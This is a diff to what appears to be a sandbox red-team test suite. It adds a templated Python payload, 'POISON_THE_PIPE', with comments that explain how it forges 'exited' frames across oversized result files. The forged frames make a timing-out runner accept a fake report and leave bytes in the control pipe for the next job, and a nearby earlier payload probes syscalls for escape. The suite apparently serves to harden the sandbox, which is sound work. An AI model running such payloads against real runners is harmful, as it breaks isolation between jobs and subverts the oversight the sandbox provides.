@@ -361,3 +361,66 @@ for name, nr, args in (("statmount", 457, (req, buf, 4096, 0)), ("listmount", 45
     err = ctypes.get_errno()
     print(("ESCAPED" if ret >= 0 or err != 38 else "DENIED") + f" {{name}} {{ret}} errno {{err}}")
 ''' + HONEST
+
+#: RT-15 (red team): big result files that hold, at every page boundary, a forged report whose
+#: length swallows all but the real report's last 4 KiB, ending just before the wall-clock
+#: deadline: a runner that stopped reading mid-report would take the forgery and leave the tail
+#: in the pipe, where the next learner's job would read it as its own frame.
+POISON_THE_PIPE = '''
+# Cross-learner: leave bytes in the jail host's control pipe for the NEXT job on this host.
+# 1. Files so big that the manager's "exited" frame is still being read at the wall-clock deadline.
+# 2. At every page boundary of that frame (where the runner's TimeoutError can leave it), a forged
+#    "exited" frame whose blob_len swallows all but the last X bytes of the real frame, so the runner
+#    accepts it (time_limit for us), the manager finishes its write and exits, the host is kept...
+# 3. ...and the last X bytes of the real frame (our file's tail) wait in the pipe for the next job.
+import json, os, resource, time
+T0 = time.monotonic()
+WALL = {wall}
+LEAD = {lead}
+CAP = 8 << 20
+CPU_LEN = int(os.environ.get("X_CPULEN", "8"))          # guessed len(repr(cpu_seconds))
+HOST_RSS_DIGITS = int(os.environ.get("X_HDIG", "9"))
+X = 4096                                                # bytes left in the pipe for the next job
+R = O = CAP - 8192
+st = os.statvfs("/tmp")
+T = st.f_blocks * st.f_frsize
+blob_total = R + O                                      # stdout.txt / stderr.txt stay empty
+F = st.f_bavail * st.f_frsize - R - O - 8192            # only its number of digits matters
+M = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 * 2   # grows while we build the files
+files = {{"result.json": R, "outputs.safetensors": O, "stdout.txt": 0, "stderr.txt": 0}}
+real = json.dumps({{"event": "exited", "setup_ok": True, "tmp_free_bytes": F, "tmp_total_bytes": T,
+                   "exit_code": 0, "signal": None, "cpu_seconds": 10 ** (CPU_LEN - 1), "maxrss_bytes": M,
+                   "host_rss_bytes": 10 ** (HOST_RSS_DIGITS - 1), "files": files, "sizes": files}})
+L = len(real)   # the same length as the manager's JSON when the guessed digit counts are right
+
+def forged(b):
+    """A complete exited frame to sit at blob offset b."""
+    remaining = blob_total - b
+    fb = 0
+    for _ in range(5):
+        rj = min(fb, CAP - 1)
+        fo = fb - rj
+        fl = {{"result.json": rj, "outputs.safetensors": fo}}
+        fj = json.dumps({{"event": "exited", "setup_ok": True, "tmp_free_bytes": 0, "tmp_total_bytes": 1,
+                         "exit_code": 0, "signal": None, "cpu_seconds": 0.5, "maxrss_bytes": 1,
+                         "host_rss_bytes": 1, "files": fl, "sizes": fl}}).encode()
+        fb = remaining - 8 - len(fj) - X
+    return len(fj).to_bytes(4, "big") + fb.to_bytes(4, "big") + fj
+blob = bytearray(blob_total)
+k = 1
+while True:
+    b = 4096 * k - 8 - L
+    if b + 600 > blob_total - X - 8192:
+        break
+    if b >= 0:
+        fr = forged(b)
+        blob[b:b + len(fr)] = fr
+    k += 1
+blob[blob_total - X:] = b"\\xff" * X                      # what the next job will read as its "forked" frame
+with open("../result.json", "wb") as f:
+    f.write(blob[:R])
+with open("../outputs.safetensors", "wb") as f:
+    f.write(blob[R:])
+time.sleep(max(0.0, T0 + WALL - LEAD - time.monotonic()))
+os._exit(0)
+'''
